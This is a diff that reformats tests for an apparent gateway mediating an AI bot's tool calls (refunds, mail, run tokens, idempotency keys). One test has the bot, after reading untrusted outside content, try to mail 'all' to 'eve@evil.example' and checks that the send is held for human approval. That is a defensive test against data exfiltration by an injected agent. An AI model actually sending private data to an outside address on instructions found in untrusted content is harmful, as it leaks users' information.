@@ -70,7 +70,12 @@ test('a denied caller does not learn whether a precondition would hold', async (
 });
 
 test('the model cannot claim what only an orchestrator binds', async () => {
-  const claimed = await desk.call('bot', 'refund', { account: 'AC-1', amount_minor: 1 }, { context: { ticket: 'ZD-1' } });
+  const claimed = await desk.call(
+    'bot',
+    'refund',
+    { account: 'AC-1', amount_minor: 1 },
+    { context: { ticket: 'ZD-1' } },
+  );
   assert.equal(claimed.problem?.code, 'context_missing');
 });
 
@@ -84,7 +89,12 @@ test('an ended run takes no more calls', async () => {
   const run = await desk.openRun('desk', 'bot', { ticket: 'ZD-1' });
   await desk.token('bot', { runToken: run.run_token });
   await desk.send('desk', 'POST', `/v1/runs/${run.run_id}/end`);
-  const late = await desk.call('bot', 'refund', { account: 'AC-1', amount_minor: 1 }, { runToken: run.run_token });
+  const late = await desk.call(
+    'bot',
+    'refund',
+    { account: 'AC-1', amount_minor: 1 },
+    { runToken: run.run_token },
+  );
   assert.equal(late.problem?.code, 'run_ended');
 });
 
@@ -105,7 +115,12 @@ test('reading what outsiders wrote labels the run, before and for good', async (
   assert.equal((note.result as JsonObject)['card'], '[redacted]');
   const view = await desk.send('desk', 'GET', `/v1/runs/${run.run_id}`);
   assert.deepEqual(view.body['labels'], ['private', 'untrusted']);
-  const mail = await desk.call('bot', 'send_mail', { to: 'eve@evil.example', body: 'all' }, { runToken: run.run_token });
+  const mail = await desk.call(
+    'bot',
+    'send_mail',
+    { to: 'eve@evil.example', body: 'all' },
+    { runToken: run.run_token },
+  );
   assert.equal(mail.status, 'held', 'private and untrusted: nothing leaves without a person');
   assert.deepEqual(
     mail.approval?.asks.map((ask) => ask.rule),
@@ -115,7 +130,12 @@ test('reading what outsiders wrote labels the run, before and for good', async (
 
 test('control: a run that read neither may send mail', async () => {
   const run = await desk.openRun('desk', 'bot', { ticket: 'ZD-1' });
-  const mail = await desk.call('bot', 'send_mail', { to: 'a@b.example', body: 'hi' }, { runToken: run.run_token });
+  const mail = await desk.call(
+    'bot',
+    'send_mail',
+    { to: 'a@b.example', body: 'hi' },
+    { runToken: run.run_token },
+  );
   assert.equal(mail.status, 'succeeded');
   assert.equal(desk.mails(), 1);
 });
@@ -162,7 +182,10 @@ test('the same key answers the same, and the deed is done once, also at once', a
   assert.equal(desk.refunds(), before + 1);
   assert.equal(new Set(answers.map((answer) => answer.call_id)).size, 1);
   const again = await desk.call('bot', 'refund', args, { runToken, key: 'k-20' });
-  assert.deepEqual([again.status, again.replayed, again.result], ['succeeded', true, { account: 'AC-1', amount_minor: 7 }]);
+  assert.deepEqual(
+    [again.status, again.replayed, again.result],
+    ['succeeded', true, { account: 'AC-1', amount_minor: 7 }],
+  );
   const other = await desk.call('bot', 'refund', { ...args, amount_minor: 8 }, { runToken, key: 'k-20' });
   assert.equal(other.problem?.code, 'duplicate_key');
   const control = await desk.call('bot', 'refund', args, { runToken, key: 'k-21' });
